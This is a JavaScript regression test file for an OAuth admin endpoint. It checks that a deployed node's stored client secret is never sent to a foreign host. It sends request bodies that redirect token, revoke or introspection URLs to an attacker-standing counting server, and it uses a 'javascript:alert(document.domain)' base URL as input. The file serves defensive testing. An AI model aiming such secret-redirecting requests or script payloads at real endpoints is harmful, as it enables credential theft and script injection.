'use strict';
/**
 * Issue 15, item 1: Test connection and Authorize reuse a deployed node's stored secret only
 * for that node's own preset, URLs, TLS and proxy; any difference and the dialog must send the
 * secret itself (`secret_required`). The endpoints take JSON bodies only (415 otherwise), so no
 * cross-site form reaches them. A counting server stands for the attacker's host: it must never
 * see a request carrying the stored secret. At the branch point `{id, preset, tokenUrl: <any
 * host>}` sent `Basic id:secret` there, from a url-encoded form too.
 */
const assert = require('node:assert/strict');
const { startEmulator } = require('../../dist/emulator/index.js');
const { helper, ALL } = require('../helpers/red.js');
const { providerDef, demoCredentials, DEMO } = require('../helpers/fixtures.js');
const { startCountingServer } = require('../support/counting-server.js');

const TEST = '/m2m-auth/test';
const START = '/m2m-auth/verizon-cloud/authorize';
const KEPT = '__PWRD__';

describe('admin endpoints: a stored secret goes only where the deployed node sends it (issue 15, item 1)', function () {
  let emu;
  let evil;
  before(async () => {
    emu = await startEmulator();
    evil = await startCountingServer();
  });
  after(async () => {
    await evil.close();
    await emu.close();
  });
  beforeEach(async () => {
    emu.reset();
    evil.seen.length = 0;
    await helper.startServer();
  });
  afterEach(async () => {
    await helper.unload();
    await helper.stopServer();
  });

  /** Nothing the counting server saw carried the demo secret, in a header or in the URL. */
  function evilSawNoSecret() {
    for (const r of evil.seen) {
      const basic = r.authorization?.startsWith('Basic ') ? Buffer.from(r.authorization.slice(6), 'base64').toString() : '';
      assert.ok(!basic.includes(DEMO.clientSecret), `Basic with the secret reached the foreign host: ${r.url}`);
      assert.ok(!r.url.includes(encodeURIComponent(DEMO.clientSecret)), r.url);
    }
  }

  async function deploy(preset, extra = {}) {
    const def = providerDef(emu, preset, extra);
    await helper.load(ALL, [def], { prov: demoCredentials(preset) });
    const { id, type, name, ...values } = def;
    return { id, ...values };
  }

  it('the attack of the issue: {id, preset, tokenUrl: foreign} → secret_required, the foreign host sees nothing', async () => {
    await deploy('oauth2');
    const res = await helper.request().post(TEST).send({ id: 'prov', preset: 'oauth2', tokenUrl: `${evil.url}/token` });
    assert.equal(res.status, 200);
    assert.equal(res.body.ok, false);
    assert.equal(res.body.code, 'secret_required');
    assert.equal(evil.seen.length, 0);
  });

  const changes = {
    'another token URL': (v) => ({ ...v, tokenUrl: `${evil.url}/token` }),
    'another preset': (v) => ({ ...v, preset: 'iotspot', tokenUrl: `${evil.url}/oauth2/token` }),
    'another revoke URL': (v) => ({ ...v, revokeUrl: `${evil.url}/revoke` }),
    'another introspection URL': (v) => ({ ...v, introspectUrl: `${evil.url}/introspect` }),
    'a proxy the deployed node does not use': (v) => ({ ...v, proxy: 'some-proxy-node' }),
    'a TLS config the deployed node does not use': (v) => ({ ...v, tls: 'some-tls-node' }),
  };
  for (const [name, change] of Object.entries(changes)) {
    it(`${name} with the stored secret (__PWRD__) → secret_required`, async () => {
      const values = await deploy('oauth2');
      const res = await helper.request().post(TEST).send({ ...change(values), clientId: DEMO.clientId, clientSecret: KEPT });
      assert.equal(res.body.code, 'secret_required', JSON.stringify(res.body));
      assert.equal(emu.count('oauth2', 'token'), 0);
      evilSawNoSecret();
      assert.equal(evil.seen.length, 0);
    });
  }

  it('thingspace: a foreign base URL with the stored secret → secret_required', async () => {
    const values = await deploy('thingspace');
    const res = await helper.request().post(TEST).send({ ...values, baseUrl: evil.url, clientSecret: KEPT, password: KEPT });
    assert.equal(res.body.code, 'secret_required');
    assert.equal(evil.seen.length, 0);
  });

  it('the same settings reuse the stored secret (the dialog of a deployed node works as before)', async () => {
    const values = await deploy('oauth2');
    const res = await helper.request().post(TEST).send({ ...values, clientId: DEMO.clientId, clientSecret: KEPT });
    assert.equal(res.body.ok, true, JSON.stringify(res.body));
    assert.equal(emu.count('oauth2', 'token'), 1);
  });

  it('another host with the secret typed in the dialog is tested (the dialog holds the secret itself)', async () => {
    const values = await deploy('oauth2');
    const res = await helper.request().post(TEST).send({ ...values, tokenUrl: `${evil.url}/token`, clientId: 'typed-id', clientSecret: 'typed-secret-1' });
    assert.equal(res.body.ok, true, JSON.stringify(res.body));
    assert.equal(evil.seen.length, 1);
    assert.equal(Buffer.from(evil.seen[0].authorization.slice(6), 'base64').toString(), 'typed-id:typed-secret-1');
  });

  it('a node id that is not deployed: its stored credentials are not reused', async () => {
    await deploy('oauth2');
    const res = await helper.request().post(TEST).send({ id: 'no-such-node', preset: 'oauth2', tokenUrl: `${evil.url}/token`, clientSecret: KEPT });
    assert.notEqual(res.body.ok, true);
    assert.equal(evil.seen.length, 0);
  });

  it('Authorize start with a foreign base or token URL and the stored secret → 400 secret_required; no state is handed out', async () => {
    const values = await deploy('verizon-cloud');
    for (const change of [{ baseUrl: evil.url }, { tokenUrl: `${evil.url}/token` }]) {
      const res = await helper.request().post(START).send({ ...values, ...change, clientSecret: KEPT, redirectUri: 'http://127.0.0.1:1880/m2m-auth/verizon-cloud/callback' });
      assert.equal(res.status, 400);
      assert.equal(res.body.code, 'secret_required');
      assert.equal(res.body.authorizeUrl, undefined);
    }
    assert.equal(evil.seen.length, 0);
  });

  it('Authorize start with a javascript: base URL (issue 15, item 4) → 400 invalid_config, no authorize URL', async () => {
    const values = await deploy('verizon-cloud', { baseUrl: 'javascript:alert(document.domain)//' });
    const res = await helper.request().post(START).send({ ...values, clientSecret: 'typed-secret-2', redirectUri: 'http://127.0.0.1:1880/m2m-auth/verizon-cloud/callback' });
    assert.equal(res.status, 400);
    assert.equal(res.body.code, 'invalid_config');
    assert.equal(res.body.authorizeUrl, undefined);
  });

  for (const [path, label] of [[TEST, 'Test connection'], [START, 'Authorize']]) {
    it(`${label} refuses a url-encoded or plain-text body with 415 (a cross-site form cannot reach it)`, async () => {
      const values = await deploy(path === START ? 'verizon-cloud' : 'oauth2');
      const form = new URLSearchParams({ id: 'prov', preset: values.preset, tokenUrl: values.tokenUrl || `${evil.url}/token`, redirectUri: 'http://127.0.0.1:1880/x' }).toString();
      const urlencoded = await helper.request().post(path).type('form').send(form);
      assert.equal(urlencoded.status, 415);
      assert.equal(urlencoded.body.code, 'unsupported_media_type');
      const plain = await helper.request().post(path).set('content-type', 'text/plain').send(JSON.stringify({ id: 'prov' }));
      assert.equal(plain.status, 415);
      assert.equal(emu.count(), 0);
      assert.equal(evil.seen.length, 0);
    });
  }
});
